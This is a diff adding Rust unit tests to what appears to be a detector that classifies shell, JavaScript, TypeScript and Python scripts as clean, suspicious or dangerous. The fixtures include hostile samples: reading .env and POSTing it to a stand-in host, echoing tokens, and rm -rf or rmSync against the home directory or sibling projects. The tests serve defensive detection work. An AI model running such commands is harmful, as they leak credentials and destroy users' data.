@@ -10106,6 +10106,139 @@ fn a_masked_copy_of_a_config_prints_no_token() {
     }
 }
 
+/// A variable read from a project's `.env` that is named for a plain setting (`API_PORT`,
+/// `NODE_ENV`) is no secret: printing it is no leak, though reading the file stays a finding
+/// of its own (suspicious). Its credentials printed or sent are exfiltration, and another
+/// project's `.env` read is a secret read.
+#[test]
+fn a_plain_setting_from_a_dotenv_is_no_secret() {
+    let rows: Vec<(Language, &str, Verdict, &str)> = vec![
+        (
+            Sh,
+            "#!/bin/bash\nset -a\nsource ./.env\nset +a\necho \"starting api on port $API_PORT ($NODE_ENV)\"\n",
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nset -a\nsource ./.env\nset +a\necho \"token: $API_TOKEN\"\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nset -a\nsource ./.env\nset +a\necho \"db: $DATABASE_URL\"\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst { spawn } = require('child_process');\nconst env = { ...process.env };\nfor (const line of fs.readFileSync('.env', 'utf8').split('\\n')) {\n  const [k, v] = line.split('=');\n  if (k) env[k] = v;\n}\nspawn('node', ['server.js'], { env, stdio: 'inherit' });\n",
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst text = fs.readFileSync('.env', 'utf8');\nconsole.log(text);\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst text = fs.readFileSync('.env', 'utf8');\nfetch('https://collect.example.net/in', { method: 'POST', body: text });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst text = fs.readFileSync('../billing/.env', 'utf8');\nconst n = text.split('\\n').length;\n",
+            Suspicious,
+            "secret-read",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, code, verdict, category);
+    }
+}
+
+/// Bun's `Bun.env` is the process environment as `process.env` is: `Bun.env.HOME` is the home,
+/// so a delete of the home joined with a setting that may be empty deletes the home, while a
+/// delete of the project's build output through it stays clean.
+#[test]
+fn bun_env_is_the_environment() {
+    let rows: Vec<(Language, &str, Verdict, &str)> = vec![
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nimport { resolve } from 'node:path';\nconst home = Bun.env.HOME ?? '/tmp';\nrmSync(resolve(home, Bun.env.SCOPE ?? ''), { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nimport { join } from 'node:path';\nrmSync(join(Bun.env.HOME ?? '', 'project', 'dist'), { recursive: true, force: true });\n",
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, code, verdict, category);
+    }
+}
+
+/// `mapfile -t arr < <(find DIR ...)`: the array holds names of the shape the input has (names
+/// under DIR), as `for t in $(find DIR ...)` does, so a loop deleting each deletes under DIR:
+/// the project's siblings when DIR is its parent, its build output when DIR is `./dist`.
+#[test]
+fn mapfile_of_found_names_keeps_their_place() {
+    let rows: Vec<(Language, &str, Verdict, &str)> = vec![
+        (
+            Sh,
+            "#!/usr/bin/env bash\nset -euo pipefail\nws=\"$(dirname \"$PWD\")\"\nmapfile -t targets < <(find \"$ws\" -mindepth 1 -maxdepth 1 -type d)\nfor t in \"${targets[@]}\"; do\n  rm -rf -- \"$t\"\ndone\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/usr/bin/env bash\nset -euo pipefail\nmapfile -t targets < <(find ./dist -mindepth 1 -maxdepth 1 -type d)\nfor t in \"${targets[@]}\"; do\n  rm -rf -- \"$t\"\ndone\n",
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, code, verdict, category);
+    }
+}
+
+/// A filtered comprehension over the script's own objects (`[c for c in CHECKS if c.name in
+/// selected]`) holds those objects: each one's fixed argv is what runs, so honest checks stay
+/// clean and a destructive argv among them is still seen.
+#[test]
+fn a_filtered_comprehension_keeps_its_objects() {
+    let head = "import asyncio, os, sys\nfrom dataclasses import dataclass\n\n@dataclass\nclass Check:\n    name: str\n    argv: list[str]\n\n";
+    let tail = "\nasync def run_check(check):\n    proc = await asyncio.create_subprocess_exec(*check.argv)\n    await proc.wait()\n\nasync def main(selected):\n    checks = [c for c in CHECKS if not selected or c.name in selected]\n    for c in checks:\n        await run_check(c)\n\nasyncio.run(main(sys.argv[1:]))\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Py,
+            format!(
+                "{head}CHECKS = [\n    Check('ruff', ['ruff', 'check', 'src']),\n    Check('mypy', ['mypy', 'src']),\n]\n{tail}"
+            ),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            format!(
+                "{head}CHECKS = [\n    Check('ruff', ['ruff', 'check', 'src']),\n    Check('reset', ['rm', '-rf', os.path.expanduser('~')]),\n]\n{tail}"
+            ),
+            Dangerous,
+            "destructive",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
 /// Destructive SQL handed to a database server's client library runs there as `psql -c`
 /// would: a schema, database or table dropped, a table truncated, every row deleted or
 /// updated destroys data the script did not make. A scoped `DELETE ... WHERE`, a migration
